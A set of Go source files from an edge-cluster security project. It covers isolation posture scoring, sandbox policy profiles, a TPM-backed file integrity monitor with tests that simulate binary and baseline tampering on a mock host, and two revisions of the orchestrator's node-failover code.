	detail := "privileged containers disallowed"
	if s.AllowPrivileged {
		priv, detail = 0, "privileged containers allowed"
	}
	rev.Factors = append(rev.Factors, IsolationFactor{Name: "privilege-hardening", Score: priv, Detail: detail})

	enc := 0
	detail = "no TLS, no at-rest encryption"
	if s.TLSOnAPIServer && s.EtcdEncryption {
		enc, detail = 2, "TLS + etcd encryption"
	} else if s.TLSOnAPIServer || s.EtcdEncryption {
		enc, detail = 1, "partial encryption"
	}
	rev.Factors = append(rev.Factors, IsolationFactor{Name: "encryption", Score: enc, Detail: detail})

	auth := 0
	detail = "anonymous access permitted"
	if !s.AnonymousAuth && s.RBACEnabled {
		auth, detail = 2, "RBAC enforced, no anonymous access"
	} else if !s.AnonymousAuth {
		auth, detail = 1, "authenticated but coarse authorization"
	}
	rev.Factors = append(rev.Factors, IsolationFactor{Name: "authentication", Score: auth, Detail: detail})

	conn := 0
	detail = "flat network between tenants"
	if s.NetworkPoliciesOn {
		conn, detail = 2, "default-deny network policies"
	}
	rev.Factors = append(rev.Factors, IsolationFactor{Name: "connectivity", Score: conn, Detail: detail})

	sep := 0
	detail = "tenants co-resident in shared VMs"
	switch {
	case hardIsolationShare >= 0.99:
		sep, detail = 2, "every tenant in dedicated VMs"
	case hardIsolationShare >= 0.5:
		sep, detail = 1, "sensitive tenants in dedicated VMs"
	}
	rev.Factors = append(rev.Factors, IsolationFactor{Name: "tenant-separation", Score: sep, Detail: detail})

	hyg := 0
	detail = "no audit trail"
	if s.AuditLoggingEnabled {
		hyg, detail = 2, "audit logging on"
	}
	rev.Factors = append(rev.Factors, IsolationFactor{Name: "hygiene", Score: hyg, Detail: detail})

	return rev
}
