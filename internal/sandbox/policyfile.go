package sandbox

// Policy files: KubeArmor policies are deployed as declarative documents
// attached to workload selectors. This file provides the JSON round-trip
// and a small library of per-workload-class profiles, so platform
// operators can version policies alongside deployment manifests.

import (
	"encoding/json"
	"fmt"

	"genio/internal/trace"
)

// MarshalPolicy serializes a policy to JSON.
func MarshalPolicy(p Policy) ([]byte, error) {
	b, err := json.MarshalIndent(p, "", "  ")
	if err != nil {
		return nil, fmt.Errorf("sandbox: marshal policy %q: %w", p.Name, err)
	}
	return b, nil
}

// UnmarshalPolicy parses a policy document and validates it.
func UnmarshalPolicy(data []byte) (Policy, error) {
	var p Policy
	if err := json.Unmarshal(data, &p); err != nil {
		return Policy{}, fmt.Errorf("sandbox: parse policy: %w", err)
	}
	if err := ValidatePolicy(p); err != nil {
		return Policy{}, err
	}
	return p, nil
}

// ValidatePolicy checks structural invariants: a name, known actions, and
// known event types in every rule.
func ValidatePolicy(p Policy) error {
	if p.Name == "" {
		return fmt.Errorf("sandbox: policy without name")
	}
	checkAction := func(a Action, where string) error {
		switch a {
		case ActionAllow, ActionBlock, ActionAudit:
			return nil
		case 0:
			return nil // zero default is interpreted as allow
		default:
			return fmt.Errorf("sandbox: policy %q: invalid action %d in %s", p.Name, a, where)
		}
	}
	if err := checkAction(p.DefaultAction, "default"); err != nil {
		return err
	}
	for i, r := range p.Rules {
		if err := checkAction(r.Action, fmt.Sprintf("rule %d", i)); err != nil {
			return err
		}
		if r.Action == 0 {
			return fmt.Errorf("sandbox: policy %q: rule %d has no action", p.Name, i)
		}
		for _, ty := range r.Types {
			if ty < trace.EventExec || ty > trace.EventCapability {
				return fmt.Errorf("sandbox: policy %q: rule %d has unknown event type %d", p.Name, i, ty)
			}
		}
	}
	return nil
}

// BatchWorkloadPolicy returns the profile for batch/ML workloads: no
// network egress at all (they read a model and write results), in addition
// to the baseline restrictions.
func BatchWorkloadPolicy() Policy {
	base := DefaultWorkloadPolicy()
	rules := append([]PolicyRule{
		{Types: []trace.EventType{trace.EventConnect}, TargetPrefix: "", Action: ActionBlock},
		{Types: []trace.EventType{trace.EventListen}, TargetPrefix: "", Action: ActionBlock},
	}, base.Rules...)
	return Policy{Name: "genio-batch", Rules: rules, DefaultAction: base.DefaultAction}
}

// WebWorkloadPolicy returns the profile for REST services: baseline plus
// an explicit allow for the workload's own listen port and internal
// database egress, blocking all other egress.
func WebWorkloadPolicy(internalSuffix string) Policy {
	base := DefaultWorkloadPolicy()
	rules := []PolicyRule{
		{Types: []trace.EventType{trace.EventListen}, TargetPrefix: "0.0.0.0:", Action: ActionAllow},
	}
	rules = append(rules, base.Rules...)
	// Egress policy appended after the baseline so capability/file blocks
	// stay in front; connects not matching the internal suffix audit.
	rules = append(rules,
		PolicyRule{Types: []trace.EventType{trace.EventConnect}, TargetPrefix: "db" + internalSuffix, Action: ActionAllow},
		PolicyRule{Types: []trace.EventType{trace.EventConnect}, TargetPrefix: "", Action: ActionAudit},
	)
	return Policy{Name: "genio-web", Rules: rules, DefaultAction: base.DefaultAction}
}
