// Package fim implements Tripwire-style file integrity monitoring (M7):
// a cryptographic baseline of critical files, periodic scans that diff the
// live filesystem against it, and alerts on unauthorized change.
//
// Two properties from the paper are modelled faithfully:
//
//   - The baseline database is itself signed, and the signing key is
//     protected by the TPM — tampering with the monitoring process is
//     detectable (M7).
//   - Monitoring must distinguish immutable resources (system binaries,
//     configurations) from legitimately mutable ones (logs, state files);
//     without that policy the monitor drowns operators in misleading
//     alerts (Lesson 3).
package fim

import (
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"strings"

	"genio/internal/host"
	"genio/internal/tpm"
)

// ChangeKind classifies a detected difference.
type ChangeKind int

// Change kinds.
const (
	ChangeModified ChangeKind = iota + 1
	ChangeAdded
	ChangeRemoved
	ChangeMode
)

var changeNames = map[ChangeKind]string{
	ChangeModified: "modified",
	ChangeAdded:    "added",
	ChangeRemoved:  "removed",
	ChangeMode:     "mode-changed",
}

// String names the change kind.
func (c ChangeKind) String() string {
	if n, ok := changeNames[c]; ok {
		return n
	}
	return fmt.Sprintf("change(%d)", int(c))
}

// Alert is one integrity finding from a scan.
type Alert struct {
	Path string     `json:"path"`
	Kind ChangeKind `json:"kind"`
	// Suppressed is true when the path matched a mutable-path rule: the
	// change is recorded but not raised to operators.
	Suppressed bool `json:"suppressed"`
}

// entry is a baselined file record.
type entry struct {
	Path   string `json:"path"`
	Mode   uint32 `json:"mode"`
	Owner  string `json:"owner"`
	Digest string `json:"digest"`
}

// Baseline is the signed integrity database.
type Baseline struct {
	Entries   []entry `json:"entries"`
	Signature []byte  `json:"signature"`
}

// Errors returned by the monitor.
var (
	ErrBaselineTampered = errors.New("fim: baseline database tampered")
	ErrNoBaseline       = errors.New("fim: no baseline")
	ErrKeyUnavailable   = errors.New("fim: signing key unavailable")
)

// nvKeyIndex is the TPM NV index storing the baseline signing key seed.
const nvKeyIndex = "fim-baseline-key"

// Monitor watches a host's files. The baseline signing key lives in TPM NV
// storage so an attacker who alters the baseline cannot re-sign it.
type Monitor struct {
	host     *host.Host
	tpm      *tpm.TPM
	watch    []string // path prefixes to baseline
	mutable  []string // path prefixes considered legitimately mutable
	baseline *Baseline
	scans    int
}

// Config configures a Monitor.
type Config struct {
	// WatchPrefixes selects which parts of the tree are baselined.
	WatchPrefixes []string
	// MutablePrefixes marks paths whose changes are expected (logs, state).
	// Empty means every change alerts — the untuned Lesson-3 posture.
	MutablePrefixes []string
}

// NewMonitor creates a monitor over h using t to protect the signing key.
func NewMonitor(h *host.Host, t *tpm.TPM, cfg Config) (*Monitor, error) {
	if h == nil || t == nil {
		return nil, errors.New("fim: host and tpm required")
	}
	watch := cfg.WatchPrefixes
	if len(watch) == 0 {
		watch = []string{""}
	}
	m := &Monitor{
		host:    h,
		tpm:     t,
		watch:   append([]string(nil), watch...),
		mutable: append([]string(nil), cfg.MutablePrefixes...),
	}
	if _, ok := t.NVRead(nvKeyIndex); !ok {
		seed := make([]byte, ed25519.SeedSize)
		sum := sha256.Sum256([]byte(h.Name + "-fim-seed"))
		copy(seed, sum[:])
		t.NVWrite(nvKeyIndex, seed)
	}
	return m, nil
}

func (m *Monitor) signingKey() (ed25519.PrivateKey, error) {
	seed, ok := m.tpm.NVRead(nvKeyIndex)
	if !ok {
		return nil, ErrKeyUnavailable
	}
	return ed25519.NewKeyFromSeed(seed), nil
}

// collect gathers entries for all watched files, sorted by path.
func (m *Monitor) collect() []entry {
	seen := make(map[string]bool)
	var entries []entry
	for _, prefix := range m.watch {
		for _, f := range m.host.Files(prefix) {
			if seen[f.Path] {
				continue
			}
			seen[f.Path] = true
			sum := sha256.Sum256(f.Content)
			entries = append(entries, entry{
				Path:   f.Path,
				Mode:   f.Mode,
				Owner:  f.Owner,
				Digest: fmt.Sprintf("%x", sum),
			})
		}
	}
	sort.Slice(entries, func(i, j int) bool { return entries[i].Path < entries[j].Path })
	return entries
}

func baselineMessage(entries []entry) []byte {
	b, err := json.Marshal(entries)
	if err != nil {
		panic(fmt.Sprintf("fim: marshal entries: %v", err))
	}
	h := sha256.Sum256(b)
	return h[:]
}

// Init captures and signs a fresh baseline of the watched tree.
func (m *Monitor) Init() error {
	key, err := m.signingKey()
	if err != nil {
		return err
	}
	entries := m.collect()
	m.baseline = &Baseline{
		Entries:   entries,
		Signature: ed25519.Sign(key, baselineMessage(entries)),
	}
	return nil
}

// Baseline returns the current baseline (nil before Init).
func (m *Monitor) Baseline() *Baseline { return m.baseline }

// SetBaseline installs an externally stored baseline (e.g. loaded from
// disk); its signature is checked at scan time.
func (m *Monitor) SetBaseline(b *Baseline) { m.baseline = b }

// isMutable reports whether path falls under a mutable-path rule.
func (m *Monitor) isMutable(path string) bool {
	for _, p := range m.mutable {
		if strings.HasPrefix(path, p) {
			return true
		}
	}
	return false
}

// Scan diffs the live tree against the baseline. It first verifies the
// baseline signature with the TPM-protected key: a tampered database aborts
// the scan with ErrBaselineTampered.
func (m *Monitor) Scan() ([]Alert, error) {
	if m.baseline == nil {
		return nil, ErrNoBaseline
	}
	key, err := m.signingKey()
	if err != nil {
		return nil, err
	}
	pub, ok := key.Public().(ed25519.PublicKey)
	if !ok {
		return nil, ErrKeyUnavailable
	}
	if !ed25519.Verify(pub, baselineMessage(m.baseline.Entries), m.baseline.Signature) {
		return nil, ErrBaselineTampered
	}
	m.scans++

	base := make(map[string]entry, len(m.baseline.Entries))
	for _, e := range m.baseline.Entries {
		base[e.Path] = e
	}
	live := make(map[string]entry)
	for _, e := range m.collect() {
		live[e.Path] = e
	}

	var alerts []Alert
	add := func(path string, kind ChangeKind) {
		alerts = append(alerts, Alert{Path: path, Kind: kind, Suppressed: m.isMutable(path)})
	}
	for path, b := range base {
		l, exists := live[path]
		switch {
		case !exists:
			add(path, ChangeRemoved)
		case l.Digest != b.Digest:
			add(path, ChangeModified)
		case l.Mode != b.Mode || l.Owner != b.Owner:
			add(path, ChangeMode)
		}
	}
	for path := range live {
		if _, exists := base[path]; !exists {
			add(path, ChangeAdded)
		}
	}
	sort.Slice(alerts, func(i, j int) bool { return alerts[i].Path < alerts[j].Path })
	return alerts, nil
}

// Raised filters alerts to those actually surfaced to operators (not
// suppressed by the mutable-path policy).
func Raised(alerts []Alert) []Alert {
	var out []Alert
	for _, a := range alerts {
		if !a.Suppressed {
			out = append(out, a)
		}
	}
	return out
}

// Scans reports how many scans completed (for experiments).
func (m *Monitor) Scans() int { return m.scans }
