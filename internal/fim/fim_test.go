package fim

import (
	"errors"
	"testing"

	"genio/internal/host"
	"genio/internal/tpm"
)

func setup(t *testing.T, cfg Config) (*host.Host, *Monitor) {
	t.Helper()
	h := host.NewONLOLT("olt-01")
	tp, err := tpm.New()
	if err != nil {
		t.Fatalf("tpm.New: %v", err)
	}
	m, err := NewMonitor(h, tp, cfg)
	if err != nil {
		t.Fatalf("NewMonitor: %v", err)
	}
	if err := m.Init(); err != nil {
		t.Fatalf("Init: %v", err)
	}
	return h, m
}

func TestCleanScanNoAlerts(t *testing.T) {
	_, m := setup(t, Config{})
	alerts, err := m.Scan()
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if len(alerts) != 0 {
		t.Fatalf("clean scan produced %d alerts: %+v", len(alerts), alerts)
	}
}

func TestModifiedBinaryDetected(t *testing.T) {
	h, m := setup(t, Config{})
	h.WriteFile(host.File{Path: "/usr/sbin/sshd", Mode: 0o755, Owner: "root",
		Content: []byte("backdoored-sshd")})
	alerts, err := m.Scan()
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 1 || alerts[0].Path != "/usr/sbin/sshd" || alerts[0].Kind != ChangeModified {
		t.Fatalf("alerts = %+v", alerts)
	}
	if alerts[0].Suppressed {
		t.Fatal("binary change must not be suppressed")
	}
}

func TestAddedAndRemovedDetected(t *testing.T) {
	h, m := setup(t, Config{})
	h.WriteFile(host.File{Path: "/usr/bin/cryptominer", Mode: 0o755, Content: []byte("evil")})
	if err := h.RemoveFile("/etc/shadow"); err != nil {
		t.Fatal(err)
	}
	alerts, err := m.Scan()
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[string]ChangeKind{}
	for _, a := range alerts {
		kinds[a.Path] = a.Kind
	}
	if kinds["/usr/bin/cryptominer"] != ChangeAdded {
		t.Fatalf("cryptominer kind = %v", kinds["/usr/bin/cryptominer"])
	}
	if kinds["/etc/shadow"] != ChangeRemoved {
		t.Fatalf("shadow kind = %v", kinds["/etc/shadow"])
	}
}

func TestModeChangeDetected(t *testing.T) {
	h, m := setup(t, Config{})
	f, err := h.ReadFile("/etc/shadow")
	if err != nil {
		t.Fatal(err)
	}
	f.Mode = 0o666 // world-writable shadow file
	h.WriteFile(f)
	alerts, err := m.Scan()
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 1 || alerts[0].Kind != ChangeMode {
		t.Fatalf("alerts = %+v", alerts)
	}
}

func TestMutablePathSuppression(t *testing.T) {
	// Lesson 3: without a mutable-path policy, benign churn (logs, state)
	// floods operators with alerts.
	h, untuned := setup(t, Config{})
	h2 := host.NewONLOLT("olt-02")
	tp, err := tpm.New()
	if err != nil {
		t.Fatal(err)
	}
	tuned, err := NewMonitor(h2, tp, Config{MutablePrefixes: []string{"/var/log/", "/var/lib/genio/"}})
	if err != nil {
		t.Fatal(err)
	}
	if err := tuned.Init(); err != nil {
		t.Fatal(err)
	}

	churn := func(hh *host.Host) {
		hh.WriteFile(host.File{Path: "/var/log/syslog", Mode: 0o640, Owner: "root", Content: []byte("more logs\n")})
		hh.WriteFile(host.File{Path: "/var/lib/genio/state.json", Mode: 0o640, Owner: "root", Content: []byte(`{"epoch":2}`)})
	}
	churn(h)
	churn(h2)

	a1, err := untuned.Scan()
	if err != nil {
		t.Fatal(err)
	}
	a2, err := tuned.Scan()
	if err != nil {
		t.Fatal(err)
	}
	if len(Raised(a1)) != 2 {
		t.Fatalf("untuned raised %d alerts, want 2", len(Raised(a1)))
	}
	if len(Raised(a2)) != 0 {
		t.Fatalf("tuned raised %d alerts, want 0", len(Raised(a2)))
	}
	// The tuned monitor still records the change (auditability).
	if len(a2) != 2 {
		t.Fatalf("tuned recorded %d changes, want 2", len(a2))
	}
}

func TestTunedMonitorStillCatchesBinaryTamper(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	tp, err := tpm.New()
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMonitor(h, tp, Config{MutablePrefixes: []string{"/var/"}})
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Init(); err != nil {
		t.Fatal(err)
	}
	h.WriteFile(host.File{Path: "/usr/sbin/sshd", Mode: 0o755, Owner: "root", Content: []byte("evil")})
	h.WriteFile(host.File{Path: "/var/log/syslog", Mode: 0o640, Owner: "root", Content: []byte("noise")})
	alerts, err := m.Scan()
	if err != nil {
		t.Fatal(err)
	}
	raised := Raised(alerts)
	if len(raised) != 1 || raised[0].Path != "/usr/sbin/sshd" {
		t.Fatalf("raised = %+v", raised)
	}
}

func TestBaselineTamperDetected(t *testing.T) {
	_, m := setup(t, Config{})
	// Attacker edits the baseline to whitelist their backdoor.
	b := m.Baseline()
	b.Entries[0].Digest = "0000000000000000"
	m.SetBaseline(b)
	if _, err := m.Scan(); !errors.Is(err, ErrBaselineTampered) {
		t.Fatalf("err = %v, want ErrBaselineTampered", err)
	}
}

func TestScanWithoutBaseline(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	tp, err := tpm.New()
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMonitor(h, tp, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.Scan(); !errors.Is(err, ErrNoBaseline) {
		t.Fatalf("err = %v, want ErrNoBaseline", err)
	}
}

func TestWatchPrefixLimitsScope(t *testing.T) {
	h := host.NewONLOLT("olt-01")
	tp, err := tpm.New()
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMonitor(h, tp, Config{WatchPrefixes: []string{"/etc/"}})
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Init(); err != nil {
		t.Fatal(err)
	}
	// A change outside the watched tree is invisible.
	h.WriteFile(host.File{Path: "/opt/onos/bin/onos-service", Mode: 0o755, Content: []byte("evil")})
	alerts, err := m.Scan()
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 0 {
		t.Fatalf("alerts = %+v, want none outside watch scope", alerts)
	}
	// Inside the tree it is caught.
	h.WriteFile(host.File{Path: "/etc/passwd", Mode: 0o644, Owner: "root", Content: []byte("evil")})
	alerts, err = m.Scan()
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 1 || alerts[0].Path != "/etc/passwd" {
		t.Fatalf("alerts = %+v", alerts)
	}
}

func TestNewMonitorValidation(t *testing.T) {
	if _, err := NewMonitor(nil, nil, Config{}); err == nil {
		t.Fatal("NewMonitor accepted nil host/tpm")
	}
}

func TestChangeKindString(t *testing.T) {
	if ChangeModified.String() != "modified" || ChangeKind(9).String() != "change(9)" {
		t.Fatal("ChangeKind.String mismatch")
	}
}

func TestScanCounter(t *testing.T) {
	_, m := setup(t, Config{})
	for i := 0; i < 3; i++ {
		if _, err := m.Scan(); err != nil {
			t.Fatal(err)
		}
	}
	if m.Scans() != 3 {
		t.Fatalf("Scans = %d, want 3", m.Scans())
	}
}
