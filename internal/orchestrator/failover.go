package orchestrator

// Node failure handling: the paper positions orchestration as providing
// "scalable, resilient, and efficient workload management". This file
// models node loss (an OLT going dark) and workload rescheduling onto the
// surviving fleet — with security state preserved: rescheduled workloads
// re-enter through VM placement (isolation guarantees hold on the new
// node), and capacity/quota accounting stays consistent.

import (
	"errors"
	"fmt"
	"sort"
)

// FailoverResult reports the outcome of a node failure.
type FailoverResult struct {
	Node        string   `json:"node"`
	Rescheduled []string `json:"rescheduled"`
	Evicted     []string `json:"evicted"` // no capacity left anywhere
	// AtMs is the cluster-clock time the failure was handled (zero unless
	// a clock is installed with SetClock).
	AtMs int64 `json:"atMs,omitempty"`
}

// FailNode removes a node and reschedules its workloads onto remaining
// nodes through the scheduler (each workload's own placement policy is
// honoured: hard-isolation workloads get fresh dedicated VMs on
// posture-preferred nodes, spread workloads fan back out instead of
// re-hotspotting). Workloads that fit nowhere are evicted: their quota
// is released and they are reported for operator action. The failure
// and every per-workload outcome — including the scheduler's placement
// score for the new node — are reported to the audit sink.
func (c *Cluster) FailNode(name string) (*FailoverResult, error) {
	res, moved, warmEvs, err := c.failNode(name)
	if err != nil {
		return nil, err
	}
	c.auditEvent(AuditEvent{Kind: "node-fail", Node: name, Allowed: true,
		Detail: fmt.Sprintf("%d rescheduled, %d evicted", len(res.Rescheduled), len(res.Evicted))})
	c.emitWarmEvents(warmEvs)
	for _, w := range moved {
		c.auditEvent(AuditEvent{Kind: "failover", Workload: w.Workload,
			Tenant: w.Tenant, Node: w.Node, Allowed: true, AtMs: res.AtMs,
			Detail: fmt.Sprintf("strategy=%s score=%.3f", w.Strategy, w.Score)})
	}
	for _, wl := range res.Evicted {
		c.auditEvent(AuditEvent{Kind: "eviction", Workload: wl, Node: name,
			AtMs: res.AtMs, Detail: "no capacity on surviving nodes"})
	}
	return res, nil
}

// movedWorkload is a value snapshot of one rescheduled workload, taken
// under the cluster lock — the live *Workload may be rewritten by a
// concurrent failover the moment the lock drops.
type movedWorkload struct {
	Workload, Tenant, Node string
	Strategy               string
	Score                  float64
}

// failNode is FailNode's body, audit emission excluded; it additionally
// returns snapshots of the rescheduled workloads (with their new
// placements) so the wrapper can report tenants and target nodes.
func (c *Cluster) failNode(name string) (*FailoverResult, []movedWorkload, []WarmEvent, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	n, ok := c.nodes[name]
	if !ok {
		return nil, nil, nil, &NodeNotFoundError{Node: name}
	}
	// Collect the victims deterministically.
	var victims []*Workload
	for _, w := range c.workloads {
		if w.Node == name {
			victims = append(victims, w)
		}
	}
	sort.Slice(victims, func(i, j int) bool { return victims[i].Spec.Name < victims[j].Spec.Name })
	delete(c.nodes, name)
	c.rebuildCandidatesLocked()
	c.mutate(Mutation{Kind: MutNodeRemove, Node: name})
	_ = n

	// The node's warm slots die with it: idle slots are discarded (their
	// reservations lived on the removed node object — nothing to settle)
	// and the victims' claimed-slot bindings are severed before the
	// reschedule loop rewrites their placements.
	var warmEvs []WarmEvent
	if idle, claims := c.warm.FlushNode(name, true); len(idle)+len(claims) > 0 {
		warmEvs = append(warmEvs, WarmEvent{Kind: WarmFlush, Node: name,
			Count: len(idle) + len(claims), Reason: "node-fail"})
	}

	res := &FailoverResult{Node: name, AtMs: c.nowMs()}
	var rescheduled []movedWorkload
	for _, w := range victims {
		// Release old accounting; scheduling re-adds on success. The
		// cluster write lock is already held, so place via scheduleAmong.
		c.tenantUsed[w.Spec.Tenant] = c.tenantUsed[w.Spec.Tenant].Sub(w.Spec.Resources)
		moved, err := c.scheduleAmong(w.Spec, w.Image)
		var perr *PlacementPolicyError
		if errors.As(err, &perr) {
			// The workload's policy no longer resolves — a cluster
			// default misconfigured after placement, not a capacity
			// shortage. Failover's job is keeping workloads alive:
			// degrade to an explicit binpack placement (visible in the
			// audit score detail) instead of mass-evicting a healthy
			// fleet over a config typo.
			degraded := w.Spec
			degraded.PlacementPolicy = PlacementBinpack
			moved, err = c.scheduleAmong(degraded, w.Image)
			if err == nil {
				// The placement degraded; the workload's requested policy
				// did not — once the config is fixed, later moves resolve
				// it normally again.
				moved.Spec.PlacementPolicy = w.Spec.PlacementPolicy
			}
		}
		if err != nil && c.warmEnabled() && isCapacityErr(err) {
			// Idle warm reservations on the survivors are reclaimable:
			// evict them and retry once before evicting a live workload.
			if evs := c.reclaimWarmLocked(); len(evs) > 0 {
				warmEvs = append(warmEvs, evs...)
				moved, err = c.scheduleAmong(w.Spec, w.Image)
			}
		}
		if err != nil {
			delete(c.workloads, w.Spec.Name)
			c.mutate(Mutation{Kind: MutStop, Name: w.Spec.Name})
			res.Evicted = append(res.Evicted, w.Spec.Name)
			continue
		}
		*w = *moved
		c.mutatePlace(w)
		c.tenantUsed[w.Spec.Tenant] = c.tenantUsed[w.Spec.Tenant].Add(w.Spec.Resources)
		res.Rescheduled = append(res.Rescheduled, w.Spec.Name)
		rescheduled = append(rescheduled, movedWorkload{
			Workload: w.Spec.Name, Tenant: w.Spec.Tenant, Node: w.Node,
			Strategy: w.Strategy, Score: w.Score,
		})
	}
	return res, rescheduled, warmEvs, nil
}

// Nodes returns the live node names sorted.
func (c *Cluster) Nodes() []string {
	c.mu.RLock()
	defer c.mu.RUnlock()
	out := make([]string, 0, len(c.nodes))
	for n := range c.nodes {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// NodeUtilization reports one node's placement state: capacity
// accounting plus the lifecycle and scheduler-relevant facts
// (`genioctl nodes -top` renders these alongside placement scores).
type NodeUtilization struct {
	Node     string    `json:"node"`
	Used     Resources `json:"used"`
	Capacity Resources `json:"capacity"`
	// Cordoned marks the node unschedulable.
	Cordoned bool `json:"cordoned,omitempty"`
	// Workloads counts placements on the node; SharedVMs counts its
	// non-dedicated VMs.
	Workloads int `json:"workloads"`
	SharedVMs int `json:"sharedVMs,omitempty"`
	// WarmIdle counts idle warm slots parked on the node (their
	// reservations are inside Used); WarmClaimed counts running workloads
	// that arrived through the warm-slot fast path.
	WarmIdle    int `json:"warmIdle,omitempty"`
	WarmClaimed int `json:"warmClaimed,omitempty"`
}

// Utilization returns per-node resource usage sorted by node name.
func (c *Cluster) Utilization() []NodeUtilization {
	c.mu.RLock()
	defer c.mu.RUnlock()
	warm := c.warm.NodeCounts()
	out := make([]NodeUtilization, 0, len(c.nodes))
	for name, n := range c.nodes {
		n.mu.Lock()
		u := NodeUtilization{Node: name, Used: n.used, Capacity: n.capacity,
			Cordoned: n.cordoned, SharedVMs: n.sharedVMs,
			WarmIdle: warm[name].Idle, WarmClaimed: warm[name].Claimed}
		for _, count := range n.tenants {
			u.Workloads += count
		}
		n.mu.Unlock()
		out = append(out, u)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Node < out[j].Node })
	return out
}
