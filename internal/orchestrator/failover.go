package orchestrator

// Node failure handling: the paper positions orchestration as providing
// "scalable, resilient, and efficient workload management". This file
// models node loss (an OLT going dark) and workload rescheduling onto the
// surviving fleet — with security state preserved: rescheduled workloads
// re-enter through VM placement (isolation guarantees hold on the new
// node), and capacity/quota accounting stays consistent.

import (
	"fmt"
	"sort"
)

// FailoverResult reports the outcome of a node failure.
type FailoverResult struct {
	Node        string   `json:"node"`
	Rescheduled []string `json:"rescheduled"`
	Evicted     []string `json:"evicted"` // no capacity left anywhere
	// AtMs is the cluster-clock time the failure was handled (zero unless
	// a clock is installed with SetClock).
	AtMs int64 `json:"atMs,omitempty"`
}

// FailNode removes a node and reschedules its workloads onto remaining
// nodes (hard-isolation workloads get fresh dedicated VMs; soft ones join
// their tenant's shared VM on the target). Workloads that fit nowhere are
// evicted: their quota is released and they are reported for operator
// action.
func (c *Cluster) FailNode(name string) (*FailoverResult, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	n, ok := c.nodes[name]
	if !ok {
		return nil, fmt.Errorf("orchestrator: unknown node %q", name)
	}
	// Collect the victims deterministically.
	var victims []*Workload
	for _, w := range c.workloads {
		if w.Node == name {
			victims = append(victims, w)
		}
	}
	sort.Slice(victims, func(i, j int) bool { return victims[i].Spec.Name < victims[j].Spec.Name })
	delete(c.nodes, name)
	_ = n

	res := &FailoverResult{Node: name, AtMs: c.nowMs()}
	for _, w := range victims {
		// Release old accounting; scheduling re-adds on success. The
		// cluster write lock is already held, so place via scheduleAmong.
		c.tenantUsed[w.Spec.Tenant] = c.tenantUsed[w.Spec.Tenant].sub(w.Spec.Resources)
		moved, err := c.scheduleAmong(w.Spec, w.Image)
		if err != nil {
			delete(c.workloads, w.Spec.Name)
			res.Evicted = append(res.Evicted, w.Spec.Name)
			continue
		}
		*w = *moved
		c.tenantUsed[w.Spec.Tenant] = c.tenantUsed[w.Spec.Tenant].add(w.Spec.Resources)
		res.Rescheduled = append(res.Rescheduled, w.Spec.Name)
	}
	return res, nil
}

// Nodes returns the live node names sorted.
func (c *Cluster) Nodes() []string {
	c.mu.RLock()
	defer c.mu.RUnlock()
	out := make([]string, 0, len(c.nodes))
	for n := range c.nodes {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// NodeUtilization reports used/capacity per node.
type NodeUtilization struct {
	Node     string    `json:"node"`
	Used     Resources `json:"used"`
	Capacity Resources `json:"capacity"`
}

// Utilization returns per-node resource usage sorted by node name.
func (c *Cluster) Utilization() []NodeUtilization {
	c.mu.RLock()
	defer c.mu.RUnlock()
	out := make([]NodeUtilization, 0, len(c.nodes))
	for name, n := range c.nodes {
		n.mu.Lock()
		used := n.used
		n.mu.Unlock()
		out = append(out, NodeUtilization{Node: name, Used: used, Capacity: n.capacity})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Node < out[j].Node })
	return out
}
