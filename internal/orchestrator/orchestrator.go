// Package orchestrator models GENIO's workload-management middleware: a
// Kubernetes/Proxmox-style cluster of nodes running virtual machines, with
// edge applications deployed either in hard isolation (a dedicated VM per
// workload) or soft isolation (containers sharing a per-node tenant VM),
// exactly the two postures the paper describes.
//
// The cluster exposes the two control surfaces the security work attaches
// to: an admission chain, where image-signature checks and the M13/M16
// scanners gate deployments, and cluster settings whose insecure defaults
// the M11 benchmark profiles flag. Tenant resource quotas counter the T8
// resource-abuse vector.
//
// Concurrency model: cluster-wide topology (node membership, the workload
// and quota tables) sits behind a sync.RWMutex so read-side queries never
// contend with each other; per-node placement state (capacity accounting
// and VM maps) is sharded behind one mutex per node so placements on
// different nodes proceed in parallel. The admission chain fans out over a
// bounded worker pool (see admission.go). Lock order is always cluster
// lock before node lock, never the reverse.
package orchestrator

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"genio/internal/container"
	"genio/internal/rbac"
)

// IsolationMode selects how a workload is isolated from co-tenants.
type IsolationMode int

// Isolation modes.
const (
	// IsolationSoft runs the workload as a container inside a shared
	// per-node VM (network namespaces separate tenants).
	IsolationSoft IsolationMode = iota + 1
	// IsolationHard gives the workload a dedicated virtual machine.
	IsolationHard
)

// String names the mode.
func (m IsolationMode) String() string {
	switch m {
	case IsolationSoft:
		return "soft"
	case IsolationHard:
		return "hard"
	default:
		return fmt.Sprintf("isolation(%d)", int(m))
	}
}

// Resources is a CPU/memory demand or capacity.
type Resources struct {
	CPUMilli int `json:"cpuMilli"`
	MemoryMB int `json:"memoryMB"`
}

// fits reports whether r fits into free.
func (r Resources) fits(free Resources) bool {
	return r.CPUMilli <= free.CPUMilli && r.MemoryMB <= free.MemoryMB
}

func (r Resources) add(o Resources) Resources {
	return Resources{CPUMilli: r.CPUMilli + o.CPUMilli, MemoryMB: r.MemoryMB + o.MemoryMB}
}

func (r Resources) sub(o Resources) Resources {
	return Resources{CPUMilli: r.CPUMilli - o.CPUMilli, MemoryMB: r.MemoryMB - o.MemoryMB}
}

